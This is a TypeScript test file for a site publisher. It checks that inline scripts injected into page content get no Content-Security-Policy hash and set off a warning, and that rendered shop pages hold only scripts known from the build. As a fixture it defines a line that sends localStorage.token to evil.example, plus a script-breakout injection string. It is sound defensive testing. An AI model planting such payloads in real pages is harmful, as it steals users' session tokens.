import { createHash } from 'node:crypto'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { MINUTE } from '#lib/time.ts'
import { countUnknownScripts, parseElements } from '#server/publishing/release/page.ts'
import { makePage, SMALL_SITE } from '../support/releases.ts'
import { loadRenderer, openRenderedShop } from '../support/rendered-shop.ts'
import { openTestPublisher } from '../support/test-publisher.ts'

const STOLEN = 'fetch("https://evil.example/?" + localStorage.token)'
const hashOf = (text: string): string =>
  `'sha256-${createHash('sha256').update(text).digest('base64')}'`

test('An inline script in the content of a page gets no permission, and the publish warns of it', async () => {
  const publisher = await openTestPublisher()
  const story = makePage('Story', `<script>${STOLEN}</script>`)
  publisher.setFiles({ ...SMALL_SITE, 'blogs/story.html': story })
  await publisher.publishRelease()
  const manifest = await publisher.releases.current()
  const policy = manifest?.policies[manifest.files['blogs/story.html']?.policy ?? -1]
  expect(policy).toContain("script-src 'self';")
  const headers = await readFile(join(publisher.config.dataDir, 'current', '_headers'), 'utf8')
  expect(headers).toContain(hashOf('console.log("Vanakkam")'))
  expect(headers).not.toContain(hashOf(STOLEN))
  expect(publisher.warnings).toEqual([
    '/blogs/story contains an inline script that is not part of the site’s code'
  ])
})

test(
  'All inline scripts of the website are known from the build of its code',
  async () => {
    const attack = `</script><script>${STOLEN}</script>`
    const shop = await openRenderedShop({
      products: { laddu: { name: attack, description: attack } },
      deals: { today: { product: 'laddu' } },
      posts: { story: { title: attack, content: attack } }
    })
    const renderer = await loadRenderer(shop)
    const known = renderer.inlineScripts
    const pages = (await renderer.list()).filter(({ kind }) => kind === 'page')
    expect(pages.length).toBeGreaterThan(20)
    for (const { address } of pages) {
      const { body } = await renderer.render(address)
      const page = parseElements(String(body))
      expect(
        page.some(({ name, text }) => name === 'script' && known.has(text)),
        address
      ).toBe(true)
      expect(countUnknownScripts(page, known), address).toBe(0)
    }
  },
  4 * MINUTE
)
